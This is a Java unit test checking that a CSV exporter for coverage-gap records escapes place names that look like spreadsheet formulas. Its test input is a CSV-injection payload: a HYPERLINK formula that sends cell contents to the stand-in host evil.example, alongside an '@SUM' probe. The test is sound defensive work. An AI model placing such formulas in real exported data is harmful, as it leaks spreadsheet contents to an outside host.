package io.steppe.coverage.map;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.steppe.coverage.gap.Gap;
import java.io.IOException;
import java.io.StringWriter;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.locationtech.jts.geom.Coordinate;
import org.locationtech.jts.geom.GeometryFactory;

class GapCsvTest {

    @Test
    void aPlaceNamedLikeAFormulaIsWrittenAsText() throws IOException {
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        Gap gap = new Gap(7, "46000", "open", null, false, "none", 3, 1.5, 40, 40, (short) -125, List.of(formula), 300,
                List.of("@SUM(1+1)"), 2.0, 0, 10.0, new GeometryFactory().createPoint(new Coordinate(113.1, 41.0)), List.of(),
                "high", 0.0001);
        StringWriter out = new StringWriter();
        GapCsv.write(List.of(gap), out);
        String row = out.toString().lines().skip(1).findFirst().orElseThrow();
        assertTrue(row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","), row);
        assertTrue(row.contains(",'@SUM(1+1),"), row);
        assertFalse(row.contains(",=") || row.contains(",\"="), row);
    }
}
